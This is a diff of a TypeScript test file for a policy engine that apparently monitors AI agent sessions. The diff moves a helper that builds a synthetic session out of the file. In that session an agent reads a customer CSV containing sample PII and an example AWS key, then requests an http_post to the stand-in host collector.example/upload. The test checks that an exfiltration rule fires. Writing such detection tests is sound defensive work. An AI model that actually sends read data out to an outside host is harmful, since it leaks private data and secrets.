@@ -2,14 +2,14 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { EventTypes, type CloudEvent } from '../../src/event/envelope.js';
 import { createPolicyStage } from '../../src/policy/stage.js';
-import { connect, d, exec, exit, fdio, fork, harness, httpExchange, llmExchange, open } from '../event/scenario.js';
+import { d, exec, exit, fdio, fork, harness, httpExchange, llmExchange, open } from '../event/scenario.js';
+import { exfilSession, PII } from './sessions.js';
 
 /**
  * The default pack (policy/default-rules.yaml) over events built by the real
  * event builder from synthetic kernel records and exchanges: one test that
  * fires and one that does not, per rule.
  */
-const PII = 'Customer: Jane Roe, jane.roe@example.com, +1 415 555 0132. Key AKIAIOSFODNN7EXAMPLE';
 
 function run(build: (h: ReturnType<typeof harness>) => void, extra: Parameters<typeof harness>[0] = {}) {
   const h = harness(extra);
@@ -21,30 +21,6 @@ function run(build: (h: ReturnType<typeof harness>) => void, extra: Parameters<t
   stage.close();
   const decisions = out.filter((e) => e.type === EventTypes.policyDecision).map(d);
   return { out, decisions, fired: (rule: string) => decisions.filter((x) => x.rule_fired === rule) };
-}
-
-function exfilSession(b: ReturnType<typeof harness>['b'], toolResult: string, dest: { addr: string; port: number }) {
-  b.onRaw(exec(100, 1, 1, '/usr/bin/node', ['node', 'agent.js']));
-  b.onExchange(
-    llmExchange(100, 10, 20, {
-      inputTexts: [{ role: 'user', text: 'Summarize /data/customers.csv' }],
-      toolsOffered: ['read_file', 'http_post'],
-      toolsRequested: [{ name: 'read_file', callId: 'call_1', arguments: { path: '/data/customers.csv' } }],
-    }),
-  );
-  b.onRaw(open(100, 40, '/data/customers.csv', 21));
-  b.onRaw(fdio(100, 42, 21, 4096, 0));
-  b.onExchange(
-    llmExchange(100, 60, 20, {
-      inputTexts: [{ role: 'tool', text: toolResult }],
-      toolResults: [{ callId: 'call_1', name: 'read_file', text: toolResult }],
-      toolsOffered: ['read_file', 'http_post'],
-      toolsRequested: [{ name: 'http_post', callId: 'call_2', arguments: { url: 'https://collector.example/upload', body: 'x' } }],
-    }),
-  );
-  b.onRaw(connect(100, 100, 0, dest.addr, dest.port));
-  b.onRaw(fdio(100, 105, 9, 0, 900));
-  b.onRaw(exit(100, 200, 0));
 }
 
 test('AR-EXFIL-001 fires a flag on the egress after a PII/secret read, linked to the model call that asked for the upload', () => {
